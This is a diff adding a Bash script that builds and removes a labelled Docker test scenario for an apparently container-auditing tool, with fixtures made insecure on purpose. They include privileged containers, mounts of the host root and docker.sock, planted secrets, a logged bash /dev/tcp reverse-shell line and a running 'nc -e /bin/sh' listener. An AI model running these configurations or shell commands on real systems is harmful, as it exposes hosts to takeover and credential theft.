@@ -1,0 +1,368 @@
+#!/usr/bin/env bash
+# scenario.sh up|down PREFIX
+#
+# Builds (up) or removes (down) the live test scenario of scripts/scenario.md on the local Docker
+# engine: images made without a registry (docker import of a busybox-static rootfs, then docker build
+# FROM it), containers in every state, volumes and networks. Every object carries the labels
+# dockaudit.test=1 and dockaudit.scenario=PREFIX (derived images inherit them from the base image).
+# `down` removes exactly the objects labelled dockaudit.scenario=PREFIX plus the scenario's own image
+# tags, never anything else, and works after an `up` that failed halfway.
+#
+# Needs: the docker CLI and a reachable engine, a static busybox (Debian: busybox-static).
+# Environment: DOCKER_HOST etc. as usual for the docker CLI; BUSYBOX (path of a static busybox);
+# SCENARIO_WAIT_SECS (default 30) bounds how long `up` waits for containers to reach their states.
+set -euo pipefail
+
+export DOCKER_BUILDKIT=0 # legacy builder: no buildx plugin here, and BuildKit must not try a registry
+export DOCKER_CLI_HINTS=false
+
+usage() {
+    echo "usage: $0 up|down PREFIX   (PREFIX: lowercase letters, digits and '-', starting with a letter or digit)" >&2
+    exit 2
+}
+
+[[ $# -eq 2 ]] || usage
+ACTION=$1
+P=$2
+# Image repository names must be lowercase.
+[[ $P =~ ^[a-z0-9][a-z0-9-]{0,40}$ ]] || usage
+
+LABELS=(--label dockaudit.test=1 --label "dockaudit.scenario=$P")
+FILTER="label=dockaudit.scenario=$P"
+IMG="dockaudit-test-$P"
+BASE="$IMG-base:1"
+GOOD="$IMG-good:1"
+BAD="$IMG-bad:1"
+BAD_LATEST="$IMG-bad:latest"
+UNUSED="$IMG-unused:1"
+DANGLING="$IMG-dangling:1"
+IMAGE_TAGS=("$BASE" "$GOOD" "$BAD" "$BAD_LATEST" "$UNUSED" "$DANGLING")
+CONTAINERS=(hardened root privileged caps mounts namespaces ports devices nolog secrets procs logs restarting unhealthy exited latest)
+VOLUMES=("$P-vol-used" "$P-vol-unused")
+NETWORKS=("$P-net" "$P-net-unused")
+# Host directory bind-mounted with rshared propagation by PREFIX-mounts (created only, never started).
+SHARED_DIR="${TMPDIR:-/tmp}/dockaudit-test-$P-shared"
+WAIT_SECS=${SCENARIO_WAIT_SECS:-30}
+WORK=
+
+log() { printf '[scenario %s] %s\n' "$P" "$*" >&2; }
+die() {
+    log "error: $*"
+    exit 1
+}
+
+# ---------------------------------------------------------------------------------------------- down
+
+down() {
+    local failed=() ids left
+
+    ids=$(docker ps -aq --filter "$FILTER")
+    if [[ -n $ids ]]; then
+        # -v also removes anonymous volumes these containers made; named volumes go below, by label.
+        # shellcheck disable=SC2086
+        docker rm -f -v $ids >/dev/null || failed+=(containers)
+    fi
+
+    # Images: a parent cannot go before its children (legacy-builder intermediates inherit the
+    # scenario labels from the base image), so retry in rounds until nothing of ours is left.
+    for _ in 1 2 3 4 5 6; do
+        ids=$(
+            {
+                docker images -aq --filter "$FILTER"
+                for t in "${IMAGE_TAGS[@]}"; do docker image inspect -f '{{.Id}}' "$t" 2>/dev/null || true; done
+            } | sort -u
+        )
+        [[ -n $ids ]] || break
+        # shellcheck disable=SC2086
+        docker rmi -f $ids >/dev/null 2>&1 || true
+    done
+
+    ids=$(docker volume ls -q --filter "$FILTER")
+    if [[ -n $ids ]]; then
+        # shellcheck disable=SC2086
+        docker volume rm -f $ids >/dev/null || failed+=(volumes)
+    fi
+    ids=$(docker network ls -q --filter "$FILTER")
+    if [[ -n $ids ]]; then
+        # shellcheck disable=SC2086
+        docker network rm $ids >/dev/null || failed+=(networks)
+    fi
+
+    if [[ -d $SHARED_DIR ]]; then rmdir "$SHARED_DIR" || failed+=("$SHARED_DIR"); fi
+
+    left=$(
+        docker ps -aq --filter "$FILTER"
+        docker images -aq --filter "$FILTER"
+        for t in "${IMAGE_TAGS[@]}"; do docker image inspect -f '{{.Id}}' "$t" 2>/dev/null || true; done
+        docker volume ls -q --filter "$FILTER"
+        docker network ls -q --filter "$FILTER"
+    )
+    if [[ -n $left || ${#failed[@]} -gt 0 ]]; then
+        die "down left objects of scenario $P behind: ${failed[*]} ${left//$'\n'/ }"
+    fi
+    log "removed everything labelled dockaudit.scenario=$P"
+}
+
+# ------------------------------------------------------------------------------------------------ up
+
+# Fails when any object of this scenario (by label or by name) already exists.
+check_clean() {
+    local found=() n names
+    [[ -z $(docker ps -aq --filter "$FILTER") ]] || found+=("containers labelled dockaudit.scenario=$P")
+    [[ -z $(docker images -aq --filter "$FILTER") ]] || found+=("images labelled dockaudit.scenario=$P")
+    [[ -z $(docker volume ls -q --filter "$FILTER") ]] || found+=("volumes labelled dockaudit.scenario=$P")
+    [[ -z $(docker network ls -q --filter "$FILTER") ]] || found+=("networks labelled dockaudit.scenario=$P")
+    names=$(docker ps -a --format '{{.Names}}')
+    for n in "${CONTAINERS[@]}"; do
+        if grep -qxF "$P-$n" <<<"$names"; then found+=("container $P-$n"); fi
+    done
+    for n in "${IMAGE_TAGS[@]}"; do
+        if docker image inspect "$n" >/dev/null 2>&1; then found+=("image $n"); fi
+    done
+    for n in "${VOLUMES[@]}"; do
+        if docker volume inspect "$n" >/dev/null 2>&1; then found+=("volume $n"); fi
+    done
+    for n in "${NETWORKS[@]}"; do
+        if docker network inspect "$n" >/dev/null 2>&1; then found+=("network $n"); fi
+    done
+    if [[ -e $SHARED_DIR ]]; then found+=("directory $SHARED_DIR"); fi
+    if [[ ${#found[@]} -gt 0 ]]; then
+        die "scenario $P already exists (${found[*]}); remove it with: $0 down $P"
+    fi
+}
+
+# Background jobs: `job NAME cmd...` runs cmd in the background with its output in a file;
+# `join_jobs` waits for all of them and, if any failed, shows their output and fails.
+JOBS=()
+job() {
+    local name=$1
+    shift
+    "$@" >"$WORK/job-$name.log" 2>&1 &
+    JOBS+=("$name:$!")
+}
+join_jobs() {
+    local j name pid failed=()
+    for j in "${JOBS[@]}"; do
+        name=${j%%:*}
+        pid=${j##*:}
+        if ! wait "$pid"; then
+            failed+=("$name")
+            log "$name failed:"
+            grep -v -e 'DEPRECATED: The legacy builder' -e 'BuildKit is currently disabled' \
+                -e 'environment-variable' -e '^ *$' "$WORK/job-$name.log" >&2 || true
+        fi
+    done
+    JOBS=()
+    [[ ${#failed[@]} -eq 0 ]] || die "failed: ${failed[*]}"
+}
+
+find_busybox() {
+    local bb
+    for bb in "${BUSYBOX:-}" /bin/busybox /usr/bin/busybox "$(command -v busybox 2>/dev/null || true)"; do
+        [[ -n $bb && -x $bb ]] || continue
+        # The rootfs has no libc, so the binary must be static (ldd fails on a static executable).
+        if ldd "$bb" >/dev/null 2>&1; then continue; fi
+        echo "$bb"
+        return 0
+    done
+    die "no static busybox found (apt-get install busybox-static)"
+}
+
+build_base() {
+    local bb rootfs applet
+    bb=$(find_busybox)
+    rootfs="$WORK/rootfs"
+    mkdir -p "$rootfs"/{bin,sbin,usr/bin,usr/sbin,etc,root,home/user,tmp,var/log,var/run,var/spool/cron/crontabs,proc,sys,dev}
+    chmod 1777 "$rootfs/tmp"
+    chmod 700 "$rootfs/root"
+    cp "$bb" "$rootfs/bin/busybox"
+    # What `busybox --install -s` does inside the rootfs.
+    while read -r applet; do
+        [[ -n $applet && $applet != bin/busybox ]] || continue
+        mkdir -p "$rootfs/$(dirname "$applet")"
+        ln -sf /bin/busybox "$rootfs/$applet"
+    done < <("$bb" --list-full)
+    cat >"$rootfs/etc/passwd" <<'EOF'
+root:x:0:0:root:/root:/bin/sh
+user:x:1000:1000:user:/home/user:/bin/sh
+nobody:x:65534:65534:nobody:/nonexistent:/bin/false
+EOF
+    cat >"$rootfs/etc/group" <<'EOF'
+root:x:0:
+user:x:1000:
+nogroup:x:65534:
+EOF
+    chown 1000:1000 "$rootfs/home/user"
+    # The fake sshd PREFIX-procs runs: a script, so the process list shows `/bin/sh /usr/sbin/sshd -D`.
+    cat >"$rootfs/usr/sbin/sshd" <<'EOF'
+#!/bin/sh
+# dockaudit test scenario: a stand-in for OpenSSH's sshd that only sleeps.
+while :; do sleep 3600; done
+EOF
+    chmod 755 "$rootfs/usr/sbin/sshd"
+    # On Engine 20.10 `docker import --change` accepts LABEL (and CMD, ENV, USER, ...).
+    tar -C "$rootfs" --numeric-owner -c . |
+        docker import \
+            --change "LABEL dockaudit.test=1" \
+            --change "LABEL dockaudit.scenario=$P" \
+            --change 'CMD ["sleep", "86400"]' \
+            - "$BASE" >/dev/null
+}
+
+# build TAG CONTEXT_DIR [docker build args...]; the scenario labels come from the base image.
+build() {
+    local tag=$1 ctx=$2
+    shift 2
+    docker build -q --rm --force-rm "$@" -t "$tag" "$ctx" >/dev/null
+}
+
+build_dangling() {
+    # Built twice under one tag: the first build is left dangling (untagged).
+    build "$DANGLING" "$WORK/dangling" --label dockaudit.build=1
+    build "$DANGLING" "$WORK/dangling" --label dockaudit.build=2
+}
+
+build_derived() {
+    mkdir -p "$WORK/good" "$WORK/bad" "$WORK/unused" "$WORK/dangling"
+
+    printf '%s\n' "FROM $BASE" 'USER 1000:1000' 'HEALTHCHECK CMD true' 'EXPOSE 8080' >"$WORK/good/Dockerfile"
+    job build-good build "$GOOD" "$WORK/good"
+
+    echo "a file added with ADD" >"$WORK/bad/payload.txt"
+    printf '%s\n' "FROM $BASE" 'ENV API_SECRET=planted-image-secret-987' 'ADD payload.txt /opt/payload.txt' \
+        'RUN apt-get update || true' 'EXPOSE 8080' >"$WORK/bad/Dockerfile"
+    job build-bad build "$BAD" "$WORK/bad"
+
+    printf '%s\n' "FROM $BASE" 'LABEL dockaudit.variant=unused' >"$WORK/unused/Dockerfile"
+    job build-unused build "$UNUSED" "$WORK/unused"
+
+    printf '%s\n' "FROM $BASE" >"$WORK/dangling/Dockerfile"
+    job build-dangling build_dangling
+    join_jobs
+    docker tag "$BAD" "$BAD_LATEST"
+}
+
+# created NAME args...: docker create; running NAME args...: docker run -d
+created() {
+    local name=$1
+    shift
+    docker create --name "$P-$name" "${LABELS[@]}" "$@" >/dev/null
+}
+running() {
+    local name=$1
+    shift
+    docker run -d --name "$P-$name" "${LABELS[@]}" "$@" >/dev/null
+}
+
+create_containers() {
+    # Started first, as `up` then waits for them to reach their states.
+    job restarting running restarting --restart always "$BASE" sh -c 'exit 1'
+    job unhealthy running unhealthy --health-cmd false --health-interval 1s --health-retries 1 "$BASE"
+    job hardened running hardened --user 1000:1000 --read-only --cap-drop ALL \
+        --security-opt no-new-privileges --memory 64m --cpus 0.5 --pids-limit 64 \
+        --health-cmd true --health-interval 2s -p 127.0.0.1::8080 \
+        --log-opt max-size=10m --log-opt max-file=3 --restart on-failure:3 \
+        --network "$P-net" -v "$P-vol-used:/data" "$GOOD"
+    # The planted log secret is assembled at run time so that it is not in the container's command.
+    # shellcheck disable=SC2016
+    job logs running logs "$BASE" sh -c '
+        echo "miner: connecting to stratum+tcp://pool.example.com:3333"
+        echo "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"
+        for i in 1 2 3 4 5 6; do echo "Failed password for root from 10.0.0.9 port 22 ssh2"; done
+        s=planted-log; echo "login password=$s-secret-555"
+        echo "panic: runtime error: invalid memory address or nil pointer dereference"
+        exec sleep 86400'
+    # xmrig is a script written at run time, so the process list shows a process named xmrig.
+    # busybox nc (Debian's busybox-static) has -e.
+    job procs running procs "$BASE" sh -c '
+        /usr/sbin/sshd -D &
+        nc -l -p 4444 -e /bin/sh &
+        crond -f -c /var/spool/cron/crontabs &
+        syslogd -n &
+        httpd -f -p 8080 -h /tmp &
+        printf "#!/bin/sh\nwhile :; do sleep 3600; done\n" >/tmp/xmrig && chmod +x /tmp/xmrig
+        /tmp/xmrig --donate-level 1 &
+        wait'
+    job root running root "$BAD"
+    job nolog running nolog --log-driver none "$BASE"
+    job secrets running secrets -e DB_PASSWORD=hunter2-planted-db-secret \
+        -e AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE \
+        --label com.example.api-token=planted-label-token-123456 "$BASE"
+    job exited docker run --name "$P-exited" "${LABELS[@]}" "$BASE" true
+    join_jobs
+
+    job privileged created privileged --privileged "$BASE"
+    job caps created caps --cap-add SYS_ADMIN --cap-add NET_ADMIN --cap-add CHOWN "$BASE"
+    job mounts created mounts -v /etc:/host-etc -v /:/hostroot:ro \
+        -v /var/run/docker.sock:/var/run/docker.sock \
+        --mount "type=bind,src=$SHARED_DIR,dst=/shared,bind-propagation=rshared" "$BASE"
+    job namespaces created namespaces --pid host --ipc host --uts host --userns host --network host "$BASE"
+    job ports created ports -p 2375:2375 -p 22:2222 -p 80:8080 -p '[::]:6379:6379' -P "$GOOD"
+    job devices created devices --device /dev/null:/dev/xnull --ulimit core=-1 \
+        --cgroup-parent /dockaudit-test --restart always \
+        --security-opt seccomp=unconfined --security-opt apparmor=unconfined "$BASE"
+    job latest created latest "$BAD_LATEST"
+    join_jobs
+}
+
+state() { docker inspect -f "$2" "$P-$1" 2>/dev/null || true; }
+health() { state "$1" '{{if .State.Health}}{{.State.Health.Status}}{{end}}'; }
+
+wait_ready() {
+    local deadline=$((SECONDS + WAIT_SECS)) pending n top proc
+    while :; do
+        pending=()
+        n=$(state restarting '{{.RestartCount}}')
+        [[ ${n:-0} -ge 5 ]] || pending+=("restarting: RestartCount=${n:-?} (want >= 5)")
+        [[ $(health unhealthy) == unhealthy ]] || pending+=("unhealthy: health=$(health unhealthy)")
+        [[ $(health hardened) == healthy ]] || pending+=("hardened: health=$(health hardened)")
+        docker logs "$P-logs" 2>&1 | grep -q 'panic: runtime error' || pending+=("logs: lines not printed yet")
+        top=$(docker top "$P-procs" 2>/dev/null || true)
+        for proc in /usr/sbin/sshd 'nc -l -p 4444 -e /bin/sh' crond syslogd httpd xmrig; do
+            grep -qF -- "$proc" <<<"$top" || pending+=("procs: '$proc' not running")
+        done
+        [[ ${#pending[@]} -gt 0 ]] || return 0
+        ((SECONDS < deadline)) || die "containers did not reach their states within ${WAIT_SECS}s: ${pending[*]}"
+        sleep 0.5
+    done
+}
+
+up() {
+    docker info >/dev/null 2>&1 || die "docker engine not reachable (docker info failed)"
+    check_clean
+    local start=$SECONDS
+    WORK=$(mktemp -d "${TMPDIR:-/tmp}/dockaudit-scenario-$P.XXXXXX")
+    trap 'rm -rf "$WORK"' EXIT
+
+    log "building images"
+    build_base
+    build_derived
+    log "images built at +$((SECONDS - start))s; creating volumes, networks and containers"
+    docker volume create "${LABELS[@]}" "$P-vol-used" >/dev/null
+    docker volume create "${LABELS[@]}" "$P-vol-unused" >/dev/null
+    docker network create "${LABELS[@]}" "$P-net" >/dev/null
+    docker network create "${LABELS[@]}" "$P-net-unused" >/dev/null
+    mkdir "$SHARED_DIR"
+    create_containers
+
+    log "containers made at +$((SECONDS - start))s; waiting (at most ${WAIT_SECS}s) for restarting, unhealthy, hardened, logs, procs"
+    wait_ready
+
+    log "up in $((SECONDS - start))s; created:"
+    echo "images:"
+    docker images -a --filter "$FILTER" --format '  {{.Repository}}:{{.Tag}} {{.ID}}' | sed 's/<none>:<none>/(untagged)/'
+    echo "containers:"
+    docker ps -a --filter "$FILTER" --format '  {{.Names}}  {{.State}}  {{.Status}}' | sort
+    echo "volumes:"
+    docker volume ls -q --filter "$FILTER" | sed 's/^/  /'
+    echo "networks:"
+    docker network ls --filter "$FILTER" --format '{{.Name}}' | sed 's/^/  /'
+    echo "host directory:"
+    echo "  $SHARED_DIR"
+}
+
+case $ACTION in
+    up) up ;;
+    down) down ;;
+    *) usage ;;
+esac
